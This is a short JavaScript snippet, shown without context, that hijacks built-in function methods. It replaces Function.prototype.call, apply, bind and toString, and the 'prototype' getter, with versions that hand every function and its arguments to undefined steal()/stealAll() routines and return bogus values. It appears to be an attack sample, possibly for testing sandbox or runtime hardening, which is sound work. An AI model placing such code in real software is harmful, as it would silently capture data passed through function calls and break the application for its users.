for (const key of ['call', 'apply', 'bind', 'toString']) {
  Function.prototype[key] = function () { stealAll(this, arguments); return 'hijacked'; };
}
Object.defineProperty(Function.prototype, 'prototype', {get() { steal(this); return {}; }, configurable: true});
